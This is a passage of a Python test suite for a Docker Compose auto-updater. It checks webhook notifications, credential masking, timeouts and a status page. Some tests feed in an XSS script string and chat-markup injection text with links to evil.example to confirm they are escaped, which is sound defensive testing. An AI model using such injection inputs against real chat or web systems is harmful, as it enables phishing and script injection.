            with self.subTest(value=value), self.assertRaisesRegex(gopdater.ConfigError, "PASS_ENV"):
                make_config(PASS_ENV=value)

    def test_dry_run_runs_no_mutating_command(self):
        """DRY_RUN logs the plan and runs neither pull, stop, rm, up nor rmi."""
        rig = Rig(self, DRY_RUN=1)
        with self.assertLogs("gopdater", "INFO") as logs:
            deployment = rig.deploy()
        self.assertEqual(rig.fake.mutating_calls(), [])
        self.assertEqual(deployment.state, "dry-run")
        planned = [line for line in logs.output if "dry-run would run" in line]
        self.assertEqual([line.split("would run: ")[1] for line in planned], [
            "docker compose pull site", "docker stop -t 10 demo-site-1", "docker rm demo-site-1",
            "docker compose up -d --no-deps site"])

    def test_notification_summarises_a_changed_deployment(self):
        """NOTIFY_URL gets service, image, tag, ids, result, durations and a one-sentence text."""
        rig = Rig(self, NOTIFY_URL="http://127.0.0.1:9/hook")
        rig.deploy()
        (url, body), = rig.notices
        self.assertEqual(url, "http://127.0.0.1:9/hook")
        self.assertEqual({k: body[k] for k in ("kind", "project", "service", "image", "tag", "result", "old_image",
                                               "new_image")},
                         {"kind": "compose", "project": "demo", "service": "site", "image": "docker.io/acme/site",
                          "tag": "latest", "result": "updated", "old_image": OLD_ID, "new_image": NEW_ID})
        self.assertIn("pull", body["durations"])
        self.assertTrue(body["text"].startswith("gopdater updated demo/site to docker.io/acme/site:latest"))

    def test_no_notification_when_nothing_changed(self):
        """An up-to-date deployment sends nothing."""
        rig = Rig(self, NOTIFY_URL="http://127.0.0.1:9/hook")
        rig.fake.registry["acme/site:latest"] = OLD_ID
        rig.deploy()
        self.assertEqual(rig.notices, [])


class NotifyTest(unittest.TestCase):
    def start_receiver(self, statuses):
        """A real HTTP server on port 0 answering with the given statuses in turn."""
        received = []

        class Receiver(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                received.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.authorizations.append(self.headers.get("Authorization"))
                status = statuses[min(len(received), len(statuses)) - 1]
                self.send_response(status)
                if 300 <= status < 400:
                    self.send_header("Location", "http://127.0.0.1:9/elsewhere")
                self.end_headers()

            authorizations = []

            def log_message(self, *args):
                pass

        server = http.server.HTTPServer(("127.0.0.1", 0), Receiver)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        self.authorizations = Receiver.authorizations
        return f"http://127.0.0.1:{server.server_address[1]}/notify", received

    def start_dripper(self):
        """An endpoint that accepts, then answers one byte every 4 s; returns its URL and an event set once a
        request has come in."""
        listener = socket.create_server(("127.0.0.1", 0))
        self.addCleanup(listener.close)
        arrived, stop = threading.Event(), threading.Event()
        self.addCleanup(stop.set)

        def serve():
            with contextlib.suppress(OSError):
                while not stop.is_set():
                    sock, _ = listener.accept()
                    with sock:
                        sock.recv(65536)
                        arrived.set()
                        for byte in b"HTTP/1.1 200 OK\r\n\r\n":
                            if stop.wait(4):
                                return
                            sock.send(bytes([byte]))
        threading.Thread(target=serve, daemon=True).start()
        return f"http://127.0.0.1:{listener.getsockname()[1]}/drip", arrived

    def test_notification_is_posted_as_json(self):
        """send_notification POSTs the JSON body and reports success."""
        url, received = self.start_receiver([200])
        self.assertTrue(gopdater.send_notification(url, {"text": "hello"}, sleep=lambda s: None))
        self.assertEqual(received, [{"text": "hello"}])

    def test_notification_is_retried_once(self):
        """A 500 is retried once, after a pause."""
        url, received = self.start_receiver([500, 200])
        pauses = []
        with self.assertLogs("gopdater", "WARNING"):
            self.assertTrue(gopdater.send_notification(url, {"text": "x"}, sleep=pauses.append))
        self.assertEqual((len(received), pauses), (2, [1.0]))

    def test_notify_endpoint_down_never_fails_the_deployment(self):
        """With the notify endpoint down the deployment is still updated; the failure is logged, not the URL."""
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        url = f"http://127.0.0.1:{port}/secret-path-token"
        rig = Rig(self, NOTIFY_URL=url)
        notifier = gopdater.Notifier(lambda u, body: gopdater.send_notification(u, body, sleep=lambda s: None))
        rig.queue = rig.new_queue(notify=notifier.submit)
        with self.assertLogs("gopdater", "WARNING") as logs:
            deployment = rig.deploy()
            notifier.close(10)
        self.assertEqual(deployment.state, "updated")
        self.assertEqual(sum("notification to" in line for line in logs.output), 2)
        self.assertTrue(any("notification not delivered" in line for line in logs.output))
        self.assertFalse(any("secret-path-token" in line for line in logs.output))


    def test_credentials_in_the_url_go_as_basic_authentication_and_are_never_logged(self):
        """NOTIFY_URL=http://user:pass@host/...: an Authorization header, and the log masks user, pass and path."""
        url, received = self.start_receiver([500, 500])
        url = url.replace("http://", "http://ops:p%40ss-w0rd@")
        with self.assertLogs("gopdater", "WARNING") as logs:
            self.assertFalse(gopdater.send_notification(url, {"text": "x"}, sleep=lambda s: None))
        self.assertEqual(self.authorizations, ["Basic " + base64.b64encode(b"ops:p@ss-w0rd").decode()] * 2)
        text = "\n".join(logs.output)
        self.assertNotIn("ops", text)
        self.assertNotIn("w0rd", text)
        self.assertIn("http://***@127.0.0.1/***", text)

    def test_check_shows_a_notify_url_with_its_credentials_masked(self):
        """--check names the endpoint, says its user and password go as Basic authentication, and shows neither."""
        code, out = check(self, FakeDocker(), NOTIFY_URL="https://ops:hunter2-pass@hooks.example.org/T0/B1/xoxb-token")
        self.assertEqual(code, 0, out)
        self.assertIn("ok   notify: https://***@hooks.example.org/*** as json on expired,failed,rolled-back,updated,waiting; its "
                      "user and password go as HTTP Basic authentication, never logged", out)
        for secret in ("ops:", "hunter2", "xoxb", "T0"):
            self.assertNotIn(secret, out.replace("notify", ""))

    def test_a_redirect_is_never_followed(self):
        """A 302 is a failed delivery: the Location is not visited, the POST never becomes a GET elsewhere."""
        url, received = self.start_receiver([302, 302])
        with self.assertLogs("gopdater", "WARNING") as logs:
            self.assertFalse(gopdater.send_notification(url, {"text": "x"}, sleep=lambda s: None))
        self.assertEqual(len(received), 2, "two attempts, both to the endpoint itself")
        self.assertIn("redirects are not followed", "\n".join(logs.output))

    def test_an_endpoint_that_answers_a_byte_at_a_time_is_cut_off_at_the_deadline(self):
        """One total deadline per attempt: a byte every 4 s does not keep the attempt alive past it."""
        url, arrived = self.start_dripper()
        started = time.monotonic()
        with self.assertRaises(TimeoutError):
            gopdater.post_json(gopdater.Endpoint.parse(url), {"text": "x"}, time.monotonic() + 1)
        self.assertTrue(arrived.is_set())
        self.assertLess(time.monotonic() - started, 3.5, "cut off at the deadline, not after a byte's 4 s")

    def test_a_slow_endpoint_never_holds_back_the_next_deployment(self):
        """Notifications go out from their own thread: a dripping endpoint holds it, not the deployments."""
        url, arrived = self.start_dripper()
        rig = Rig(self, NOTIFY_URL=url)
        notifier = gopdater.Notifier()
        self.addCleanup(notifier.close, 0)
        rig.queue = rig.new_queue(notify=notifier.submit)
        first = rig.deploy()
        self.assertTrue(arrived.wait(5), "the notification is being sent")
        rig.fake.registry["acme/site:latest"] = BROKEN_ID
        second = rig.deploy()
        self.assertEqual((first.state, second.state), ("updated", "rolled-back"))
        self.assertEqual(notifier.waiting(url), 1, "the second notice waits behind the first; the deployment did not")

    def test_a_slow_endpoint_holds_back_only_its_own_messages(self):
        """Each URL has its own queue and thread: with one endpoint dripping, another gets its message at once."""
        url, arrived = self.start_dripper()
        fast, received = self.start_receiver([200])
        notifier = gopdater.Notifier()
        self.addCleanup(notifier.close, 0)
        notifier.submit(url, {"deployment": "a", "text": "x"})
        self.assertTrue(arrived.wait(5))
        notifier.submit(fast, {"deployment": "a", "text": "x"})
        deadline = time.monotonic() + 5
        while not received:
            self.assertLess(time.monotonic(), deadline, "the fast endpoint got its message while the slow one drips")
            time.sleep(0.01)
        self.assertEqual(received, [{"deployment": "a", "text": "x"}])


def outcome_payload(**changes):
    """The notification of a rolled-back update of demo/site, with a reason holding the secret and two lines."""
    deployment = gopdater.Deployment("d1", "dockerhub", gopdater.parse_reference("acme/site:1.4"), None, SITE)
    deployment.steps = [gopdater.Step("pull", "ok", 1.5), gopdater.Step("done", "rolled-back", 9.25)]
    deployment.logs = ["panic: boom <@everyone>", "exit 1"]
    outcome = gopdater.Outcome(gopdater.State.ROLLED_BACK, OLD_ID, NEW_ID, f"container exited; token {SECRET}")
    payload = gopdater.notification(deployment, outcome, 9.25, SECRET)
    payload.update(changes)
    return payload


class Sink:
    """A local endpoint that records each request whole: method, target, headers, body."""

    def __init__(self, test, status=200):
        self.requests = []
        sink = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                sink.requests.append((self.command, self.path, dict(self.headers), body))
                self.send_response(status)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass
        server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        test.addCleanup(server.server_close)
        test.addCleanup(server.shutdown)
        self.url = f"http://127.0.0.1:{server.server_address[1]}"


class SMTPSink:
    """A local mail server that speaks just enough SMTP (no STARTTLS) and records every line it was sent."""

    def __init__(self, test, endless=False):
        """endless: the greeting never ends ("220-" lines, one each 50 ms, for 30 s), as a hostile server's."""
        self.lines, self.messages = [], []
        sink = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                for _ in range(600 if endless else 0):
                    try:
                        self.wfile.write(b"220-still greeting\r\n")
                    except OSError:
                        return
                    time.sleep(0.05)
                self.wfile.write(b"220 sink ESMTP\r\n")
                while True:
                    line = self.rfile.readline()
                    if not line:
                        return
                    sink.lines.append(line.decode().strip())
                    verb = line[:4].upper()
                    if verb == b"EHLO":
                        self.wfile.write(b"250-sink\r\n250 AUTH PLAIN\r\n")
                    elif verb == b"DATA":
                        self.wfile.write(b"354 go on\r\n")
                        data = b"".join(iter(self.rfile.readline, b".\r\n"))
                        sink.messages.append(email.message_from_bytes(data))
                        self.wfile.write(b"250 queued\r\n")
                    elif verb == b"QUIT":
                        self.wfile.write(b"221 bye\r\n")
                        return
                    else:
                        self.wfile.write(b"250 ok\r\n")
        server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        test.addCleanup(server.server_close)
        test.addCleanup(server.shutdown)
        self.port = server.server_address[1]


def walk_strings(value):
    """Every string in a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from walk_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from walk_strings(item)


class NotifyFormatTest(unittest.TestCase):
    """NOTIFY_URL: each service's format, e-mail, NOTIFY_ON, several URLs."""

    def test_the_format_follows_from_the_host_and_path_or_the_fragment(self):
        """Each service's URL, as it gives it, names its format; a #fragment overrides; anything else is JSON."""
        cases = [("https://hooks.slack.com/services/T0/B1/xyz", "slack"),
                 ("https://chat.example.org/hooks/abcdefghijklmnopqrstuvwxyz", "slack"),
                 ("https://discord.com/api/webhooks/1/abc", "discord"), ("https://ntfy.sh/mytopic", "ntfy"),
                 ("https://push.example.org/message?token=abc", "gotify"),
                 ("https://api.telegram.org/bot123:abc/sendMessage?chat_id=42", "telegram"),
                 ("https://prod-1.westus.logic.azure.com/workflows/x/triggers/manual/paths/invoke?sig=y", "teams"),
                 ("https://example.org/notify", "json"), ("https://ntfy.example.org/topic#ntfy", "ntfy"),
                 ("https://hooks.slack.com/services/T0/B1/xyz#json", "json")]
        for url, name in cases:
            with self.subTest(url=url):
                self.assertEqual(gopdater.notify_format(url), name)

    def test_each_format_gets_its_exact_request(self):
        """POSTed to a local endpoint with its #fragment: the method, the target without the fragment, the
        content type and the body each service renders; no secret, no mention that pings."""
        sink = Sink(self)
        payload = outcome_payload()
        facts = [("Service", "demo/site"), ("Image", "docker.io/acme/site:1.4"), ("Result", "rolled-back"),
                 ("Took", "9.2 s"), ("Old image", "1" * 12), ("New image", "2" * 12),
                 ("Reason", "container exited; token ***")]
        text = "gopdater rolled demo/site back: docker.io/acme/site:1.4 failed (container exited; token ***)."
        plain = "\n".join([text, ""] + [f"{n}: {v}" for n, v in facts] + ["", "Last lines:",
                                                                            "panic: boom <@everyone>", "exit 1"])
        expected = {
            "slack": ("/hooks/x", "application/json", {"text": text, "blocks": [
                {"type": "section", "text": {"type": "plain_text", "text": text}},
                {"type": "section", "fields": [{"type": "plain_text", "text": f"{n}: {v}"} for n, v in facts]},
                {"type": "section", "text": {"type": "mrkdwn",
                                             "text": "```\npanic: boom &lt;@\u200beveryone&gt;\nexit 1\n```"}}]}),
            "discord": ("/api/webhooks/1/abc", "application/json", {"embeds": [{
                "title": "gopdater: demo/site rolled-back", "description": gopdater.markdown_text(text),
                "color": 0xEF6C00,
                "fields": [{"name": n, "value": gopdater.markdown_text(v), "inline": len(v) < 40} for n, v in facts] + [
                    {"name": "Last lines", "value": "```\npanic: boom <@everyone>\nexit 1\n```"}]}],
                "allowed_mentions": {"parse": []}}),
            "gotify": ("/message?token=t0k", "application/json", {"title": "gopdater: demo/site rolled-back",
                                                                  "message": plain, "priority": 4}),
            "telegram": ("/bot1:x/sendMessage?chat_id=42", "application/json",
                         {"chat_id": "42", "text": plain, "disable_web_page_preview": True}),
            "json": ("/any", "application/json", payload),
        }
        for name, (target, kind, body) in expected.items():
            with self.subTest(format=name):
                self.assertTrue(gopdater.send_notification(f"{sink.url}{target}#{name}", payload))
                method, path, head, raw = sink.requests[-1]
                self.assertEqual((method, path, head["Content-Type"]), ("POST", target, kind))
                self.assertEqual(json.loads(raw), body)
                self.assertNotIn(SECRET, raw.decode())
        self.assertTrue(gopdater.send_notification(f"{sink.url}/mytopic#ntfy", payload))
        method, path, head, raw = sink.requests[-1]
        self.assertEqual((method, path, head["Content-Type"], head["Title"], head["Tags"], head["Priority"]),
                         ("POST", "/mytopic", "text/plain; charset=utf-8", "gopdater: demo/site rolled-back", "rewind",
                          "4"))
        self.assertEqual(raw.decode(), plain)
        self.assertTrue(gopdater.send_notification(f"{sink.url}/workflows/x#teams", payload))
        card = json.loads(sink.requests[-1][3])["attachments"][0]
        self.assertEqual(card["contentType"], "application/vnd.microsoft.card.adaptive")
        self.assertEqual(card["content"]["body"][2]["inlines"], [{"type": "TextRun", "text": f"{n}: {v}\n"}
                                                                 for n, v in facts])

    def test_what_a_step_prints_stays_text_in_every_chat(self):
        """A reason and last lines carrying mentions, links and markup: in Slack and Mattermost no &<> or
        bare @word is left, in Discord every markdown character is escaped, in Teams they are TextRuns (never
        read as markdown), Telegram has no parse mode; every body stays under 64 KiB with 20 lines of 500."""
        sink = Sink(self)
        hostile = "<!channel> @all [click](http://evil.example) **bold** <http://evil.example|x> # h"
        payload = {**outcome_payload(), "reason": hostile, "logs": [hostile] * 19 + ["x" * gopdater.LINE_MAX]}
        payload["text"] = f"gopdater rolled demo/site back: it failed ({hostile})."
        for name, target in (("slack", "/hooks/x"), ("discord", "/api/webhooks/1/abc"), ("teams", "/workflows/x"),
                             ("telegram", "/bot1:x/sendMessage?chat_id=42")):
            with self.subTest(format=name):
                self.assertTrue(gopdater.send_notification(f"{sink.url}{target}#{name}", payload))
                raw = sink.requests[-1][3]
                self.assertLess(len(raw), gopdater.NOTIFY_BODY_MAX)
                body = json.loads(raw)
                strings = [v for v in walk_strings(body) if "evil" in v or "channel" in v]
                self.assertTrue(strings)
                if name == "slack":  # Mattermost shows text; Slack's plain_text objects are never read as markup
                    texts = [body["text"]] + [o["text"] for b in body["blocks"] for o in [b.get("text")] + b.get(
                        "fields", []) if o and o["type"] == "mrkdwn"]
                    self.assertEqual({o["type"] for b in body["blocks"] for o in [b.get("text")] + b.get("fields", [])
                                      if o and "evil" in o["text"] and o["text"] not in texts}, {"plain_text"})
                    for value in texts:
                        self.assertFalse(re.search(r"[<>]|&(?!amp;|lt;|gt;)|@(?!\u200b)", value), value)
                for value in strings:
                    if name == "discord" and value.startswith("```"):  # nothing renders in a code block
                        self.assertNotIn("```", value[3:-3])
                    elif name == "discord":
                        self.assertNotRegex(value, r"(?<!\\)[\[\]()*<>#]|(?<!\\)@", value)
                if name == "teams":
                    runs = [block for block in body["attachments"][0]["content"]["body"] if "evil" in json.dumps(block)]
                    self.assertTrue(runs and all(block["type"] == "RichTextBlock" for block in runs))
                if name == "telegram":
                    self.assertNotIn("parse_mode", body)


    def test_bad_notify_urls_stop_start_up_without_showing_their_secrets(self):
        """An entry that is not http(s) or smtp(s), names an unknown #format, or mails no one is a ConfigError
        that shows scheme and host only."""
        for url in ("ftp://example.org/x", "https://example.org/bot123:SECRETTOKEN/x#nope",
                    "smtp://user:SECRETTOKEN@mail.example.org:587/", "https:///SECRETTOKEN"):
            with self.subTest(url=url), self.assertRaises(gopdater.ConfigError) as caught:
                make_config(NOTIFY_URL=f"https://ntfy.sh/ok,{url}")
            self.assertIn("NOTIFY_URL", str(caught.exception))
            self.assertNotIn("SECRETTOKEN", str(caught.exception))
        for value in ("updated,sometimes", ","):
            with self.subTest(NOTIFY_ON=value), self.assertRaises(gopdater.ConfigError):
                make_config(NOTIFY_ON=value)

    def test_every_url_gets_each_result_notify_on_names(self):
        """Two URLs each get an update's message; with NOTIFY_ON=failed,rolled-back an update sends nothing and
        a rollback goes to both."""
        rig = Rig(self, NOTIFY_URL="https://ntfy.sh/a,http://127.0.0.1:9/b")
        rig.deploy()
        self.assertEqual([url for url, _ in rig.notices], ["https://ntfy.sh/a", "http://127.0.0.1:9/b"])
        rig = Rig(self, NOTIFY_URL="https://ntfy.sh/a,http://127.0.0.1:9/b", NOTIFY_ON="failed,rolled-back")
        rig.deploy()
        self.assertEqual(rig.notices, [])
        rig.fake.registry["acme/site:latest"] = BROKEN_ID
        with self.assertLogs("gopdater", "WARNING"):
            rig.deploy()
        self.assertEqual([(url, body["result"]) for url, body in rig.notices],
                         [("https://ntfy.sh/a", "rolled-back"), ("http://127.0.0.1:9/b", "rolled-back")])

    def test_a_mail_server_that_never_ends_its_greeting_is_cut_at_the_deadline(self):
        """A server that sends "220-" lines for ever: the attempt ends at its one total deadline with an OSError
        (which send_notification logs), not when the server stops."""
        sink = SMTPSink(self, endless=True)
        started = time.monotonic()
        with self.assertRaises(OSError):
            gopdater.deliver_mail(f"smtp://127.0.0.1:{sink.port}/?to=ops@example.org", outcome_payload(),
                                  time.monotonic() + 1)
        self.assertLess(time.monotonic() - started, 3)

    def test_a_notify_url_that_cannot_be_read_whole_stops_start_up(self):
        """A port out of range or not a number, an IPv6 host without its bracket, a password over plain http:
        ConfigError naming no part of the entry but its host; main exits 2 with one line."""
        for url in ("https://ntfy.example:99999/x", "https://ntfy.example:tok3n/x", "https://ntfy.example:0/x",
                    "https://[::1/SECRETTOKEN", "http://user:SECRETTOKEN@ntfy.example/x"):
            with self.subTest(url=url), self.assertRaises(gopdater.ConfigError) as caught:
                make_config(NOTIFY_URL=url)
            self.assertNotIn("SECRETTOKEN", str(caught.exception))
            self.assertNotIn("tok3n", str(caught.exception))
        self.assertEqual(make_config(NOTIFY_URL="https://[::1]:8443/x").notify_url, ("https://[::1]:8443/x",))
        stderr = io.StringIO()
        env = {"OWNER": "acme", "WEBHOOK_SECRET": SECRET, "NOTIFY_URL": "https://[::1/x"}
        with mock.patch.dict(os.environ, env, clear=True), contextlib.redirect_stderr(stderr):
            self.assertEqual(gopdater.main([]), 2)
        self.assertEqual(len(stderr.getvalue().strip().splitlines()), 1, stderr.getvalue())

    def test_mail_goes_by_smtp_with_the_message_in_plain_text(self):
        """smtp://host:port/?to=...&from=...: one mail with the title as subject and the facts and lines in it."""
        sink = SMTPSink(self)
        url = f"smtp://127.0.0.1:{sink.port}/?to=ops@example.org,dev@example.org&from=gopdater@example.org"
        self.assertTrue(gopdater.send_notification(url, outcome_payload()))
        (mail,) = sink.messages
        self.assertEqual((mail["Subject"], mail["From"], mail["To"]), (
            "gopdater: demo/site rolled-back", "gopdater@example.org", "ops@example.org, dev@example.org"))
        self.assertIn("Reason: container exited; token ***", mail.get_payload(decode=True).decode())
        self.assertIn("rcpt to:<dev@example.org>", [line.lower() for line in sink.lines])  # smtplib spells it either way

    def test_a_mail_password_is_never_sent_without_tls(self):
        """A server that offers no STARTTLS gets no AUTH: the delivery fails instead, and the log hides the
        password."""
        sink = SMTPSink(self)
        with self.assertLogs("gopdater", "WARNING") as logs:
            self.assertFalse(gopdater.send_notification(
                f"smtp://ops:hunter2@127.0.0.1:{sink.port}/?to=ops@example.org", outcome_payload(), sleep=lambda s: None))
        self.assertFalse([line for line in sink.lines if line.upper().startswith("AUTH")])
        self.assertEqual(sink.messages, [])
        self.assertNotIn("hunter2", "\n".join(logs.output))


class StatusPageTest(unittest.TestCase):
    """GET /status: the HTML page for a browser."""

    def test_basic_with_the_secret_or_the_bearer_token_opens_it_and_anything_else_is_401(self):
        """Any user name with WEBHOOK_SECRET as the password, or the Bearer token: 200 HTML; else 401 asking
        for Basic in realm gopdater."""
        rig = Rig(self)
        good = base64.b64encode(f"anyone:{SECRET}".encode()).decode()
        for authorization, status in [(f"Basic {good}", 200), (f"Bearer {SECRET}", 200), (None, 401),
                                      ("Basic " + base64.b64encode(b"anyone:wrong").decode(), 401),
                                      ("Basic %%%not-base64", 401), (f"Basic {SECRET}", 401), ("Digest x", 401)]:
            with self.subTest(authorization=authorization):
                response = rig.app.handle("GET", "/status", headers(**(
                    {"Authorization": authorization} if authorization else {})), b"")
                self.assertEqual(response.status, status)
                raw = gopdater.encode(response, False).decode()
                if status == 401:
                    self.assertIn('WWW-Authenticate: Basic realm="gopdater"', raw)
                    self.assertNotIn("<html", raw)
                else:
                    self.assertIn("Content-Type: text/html; charset=utf-8", raw)
                    self.assertIn("Content-Security-Policy: default-src 'none'", raw)

    def test_it_shows_the_services_what_runs_and_the_deployments_escaped(self):
        """Each service with its image and short id, the last result in words, each deployment with its steps
        drawn; every value escaped; no script, no external asset; refreshed every 10 s."""
        rig = Rig(self)
        rig.fake.registry["acme/site:latest"] = BROKEN_ID
        with self.assertLogs("gopdater", "WARNING"):
            deployment = rig.deploy()
        deployment.error = "<script>alert(1)</script> & more"
        page = gopdater.status_page(rig.project.running(), rig.queue.views(), datetime.datetime(2026, 12, 3))
        self.assertIn("<td>demo/site</td>", page)
        self.assertIn("<code>docker.io/acme/site:latest</code>", page)
        self.assertIn(f"<code>{'1' * 12}</code>", page)
        self.assertIn('<span class="r rolled-back">rolled back</span>', page)
        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt; &amp; more", page)
        self.assertNotIn("<script", page)
        self.assertIsNone(re.search(r"(src|href)=", page))
        self.assertIn('<meta http-equiv=refresh content=10>', page)
        self.assertIn('class="out"', page, "the outage steps are marked")

    def test_fifty_deployments_make_a_page_under_100_kb(self):
        """With 50 long deployments in the history the page stays small."""
        views = [{"image": "docker.io/acme/site", "tag": "v1.2.3", "kind": "compose", "project": "shop" * 8,
                  "service": "web", "id": f"{i:012x}", "state": "rolled-back", "created": "2026-12-03T10:00:00+00:00",
                  "started": "2026-12-03T10:00:01+00:00", "finished": "2026-12-03T10:01:00+00:00", "error": "x" * 2000,
                  "steps": [{"step": name, "result": "ok", "seconds": 1.25} for name in (
                      "inspect", "pull", "compare", "pre-update", "migrate", "stop", "remove", "up", "downtime",
                      "wait", "post-update", "rollback-tag", "rollback-stop", "rollback-remove", "rollback-up",
                      "done")]} for i in range(50)]
        page = gopdater.status_page([], views, datetime.datetime(2026, 12, 3))
        self.assertLess(len(page.encode()), 100_000)
        self.assertEqual(page.count('<div class="bar"'), 50)


class WorkerTest(unittest.TestCase):
    def test_burst_of_identical_hooks_gives_at_most_two_deployments(self):
        """20 hooks for one push while a deployment runs coalesce into one follow-up."""
        rig = Rig(self)
        rig.fake.pull_gate = threading.Event()
        rig.start_worker()
        body = payload("dockerhub-push.json")
        ids = {rig.post(f"/hooks/{SECRET}", body)[1]["id"]}
        self.assertTrue(rig.fake.pull_started.wait(5), "the worker took the first deployment into its pull")
        for _ in range(19):
            status, reply, _ = rig.post(f"/hooks/{SECRET}", body)
            self.assertEqual(status, HTTPStatus.ACCEPTED)
            ids.add(reply["id"])
        rig.fake.pull_gate.set()
        self.assertTrue(rig.queue.wait_idle(10))
        self.assertEqual(len(ids), 2)
        self.assertEqual(sum(call[2:3] == ["pull"] for call in rig.fake.calls), 2)
        follow_up = rig.queue.views()[0]
        self.assertEqual((follow_up["hooks"], follow_up["state"]), (19, "up-to-date"))

    def test_deployments_never_overlap(self):
        """Hooks for three images racing from three threads run one deployment at a time."""
        services = {"site": "acme/site:latest", "api": "acme/api:latest", "web": "acme/web:latest"}
        rig = Rig(self, FakeDocker(services=services))
        rig.fake.pull_gate = threading.Event()  # the first pull is held open until all three hooks are in
        rig.start_worker()
        hub = payload("dockerhub-push.json")
        go = threading.Barrier(3)

        def send(name):
            go.wait(5)
            rig.post(f"/hooks/{SECRET}", {**hub, "repository": {"repo_name": f"acme/{name}"}})

        threads = [threading.Thread(target=send, args=(name,)) for name in services]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(5)
        self.assertTrue(rig.fake.pull_started.wait(5))
        self.assertEqual(sorted(d["state"] for d in rig.queue.views()), ["queued", "queued", "running"])
        rig.fake.pull_gate.set()
        self.assertTrue(rig.queue.wait_idle(10))
        self.assertEqual(rig.fake.most_active, 1, "two docker commands never ran at once")
        self.assertEqual([d["state"] for d in rig.queue.views()], ["updated"] * 3)

    def test_healthz_is_503_while_no_worker_runs_and_a_dead_worker_is_replaced(self):
        """A worker that dies (here: a notifier that raises) is logged and started again; /healthz says 503
        while no worker runs, 200 once one does."""
        rig = Rig(self, NOTIFY_URL="http://127.0.0.1:9/")
        self.assertEqual(rig.app.handle("GET", "/healthz", headers(), b"").status, HTTPStatus.SERVICE_UNAVAILABLE)
        raised = []

        def notify(url, payload):
            if not raised:
                raised.append(payload["deployment"])
                raise RuntimeError("a bug in the notifier")
            return True
        queue = gopdater.WorkQueue(rig.config, rig.project, gopdater.QueueSeams(
            rig.clock, rig.clock.sleep, gopdater.notifying(rig.config, notify), rig.metrics, rig.journal))
        app = gopdater.App(rig.config, queue, rig.metrics)
        worker = threading.Thread(target=gopdater.work_until_stopped, args=(queue,), daemon=True)
        with self.assertLogs("gopdater", "INFO") as logs:
            worker.start()
            self.addCleanup(worker.join, 10)
            self.addCleanup(queue.stop, 10)
            queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
            self.assertTrue(queue.wait_idle(10))
            rig.fake.registry["acme/site:latest"] = BROKEN_ID
            queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/site")))
            deadline = time.monotonic() + 10
            while len(queue.views()) < 2 or queue.views()[0]["state"] in ("queued", "running"):
                self.assertLess(time.monotonic(), deadline, "the second deployment ran on a new worker")
                time.sleep(0.01)
        self.assertIn("the worker died", "\n".join(logs.output))
        self.assertEqual(queue.views()[0]["state"], "rolled-back")
        self.assertEqual(app.handle("GET", "/healthz", headers(), b"").status, HTTPStatus.OK)

    def test_shutdown_cancels_queued_work_and_waits_for_the_running_one(self):
        """stop() cancels what has not started and waits (bounded) for the running deployment."""
        rig = Rig(self)
        rig.fake.pull_gate = threading.Event()
        rig.start_worker()
        hub = payload("dockerhub-push.json")
        rig.post(f"/hooks/{SECRET}", hub)
        self.assertTrue(rig.fake.pull_started.wait(5))
        rig.post(f"/hooks/{SECRET}", hub)
        with self.assertLogs("gopdater", "WARNING"):
            self.assertFalse(rig.queue.stop(0.05))
        rig.fake.pull_gate.set()
        self.assertTrue(rig.queue.stop(10))
        self.assertEqual([d["state"] for d in rig.queue.views()], ["cancelled", "updated"])
        self.assertEqual(rig.post(f"/hooks/{SECRET}", hub)[0], HTTPStatus.SERVICE_UNAVAILABLE)

    def test_unmatched_hook_makes_the_worker_reread_the_project(self):
        """An authentic hook no service runs makes the idle worker re-read the project within 10 s."""
        rig = Rig(self, REFRESH_INTERVAL=3600)
        rig.start_worker()
        rig.fake.config_read.clear()
        hub = payload("dockerhub-push.json")
        self.assertEqual(rig.post(f"/hooks/{SECRET}", {**hub, "push_data": {"tag": "v9"}})[0], HTTPStatus.OK)
        rig.clock.sleep(10)
        self.assertTrue(rig.fake.config_read.wait(5), "the project was re-read")


class CheckTest(unittest.TestCase):
    def check(self, fake, **env):
        return check(self, fake, **env)

    def test_check_reports_docker_compose_project_services_and_a_masked_url(self):
        """--check lists engine, Compose, project and where it came from, each service's image, a masked URL."""
        code, out = self.check(FakeDocker())
        self.assertEqual(code, 0, out)
        lines = out.splitlines()
        for line in ["ok   docker: engine 20.10.24 answers (DOCKER_HOST unset, so /var/run/docker.sock)",
                     "ok   compose: docker compose 2.29.1 (v2)",
                     "ok   project: demo (from Compose's default, the project folder's name)",
                     "ok   service demo/site: updates on a push of docker.io/acme/site:latest",
                     "ok   owners allowed: docker.io/acme",
                     f"ok   webhook URL for Docker Hub: http://<this-host>:8080/hooks/{SECRET[:4]}********"]:
            with self.subTest(line=line):
                self.assertTrue(any(found.startswith(line) for found in lines), out)
        self.assertNotIn(SECRET, out)

    def test_check_names_each_problem_and_its_fix(self):
        """Docker down, no Compose, or no service to update each give a FAIL line with a fix, and exit 1."""
        down = FakeDocker()
        down.fail[("docker", "version")] = (1, "Cannot connect to the Docker daemon")
        no_compose = FakeDocker()
        no_compose.fail[("docker", "compose")] = (1, "'compose' is not a docker command")
        no_compose.fail[("docker-compose",)] = (127, "not found")
        nothing = FakeDocker()
        nothing.containers.clear()
        cases = [(down, "start Docker, mount /var/run/docker.sock, or set DOCKER_HOST"),
                 (no_compose, "install the docker compose plugin or docker-compose, or set COMPOSE_COMMAND"),
                 (nothing, "no service would ever be updated: start the services with docker compose up -d")]
        for fake, fix in cases:
            with self.subTest(fix=fix):
                code, out = self.check(fake)
